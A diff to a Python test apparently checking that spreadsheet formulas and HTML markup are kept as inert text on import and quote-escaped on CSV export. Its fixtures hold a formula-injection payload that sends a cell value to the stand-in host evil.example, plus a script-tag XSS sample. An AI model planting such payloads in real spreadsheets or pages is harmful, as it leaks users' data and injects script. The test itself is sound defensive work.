@@ -249,9 +249,9 @@ def test_formulas_and_markup_stay_inert_text(tmp_path, context):
     assert '=HYPERLINK("http://evil.example/?"&A1,"klik")' in out.index
     assert out.loc['=HYPERLINK("http://evil.example/?"&A1,"klik")', "description"] == "<script>alert(1)</script>"
     assert out.loc["Fundacja <b>Pogrubiona</b>", "employees"] == "7"       # a formula: its cached value
-    from geoes.common.excel import rejects_bytes
+    from geoes.common.excel import csv_bytes
 
-    text = rejects_bytes(result.merged.tail(2)).decode("utf-8-sig")
+    text = csv_bytes(result.merged.tail(2)).decode("utf-8-sig")
     assert "'=HYPERLINK" in text and "'+1+1" in text
 
 
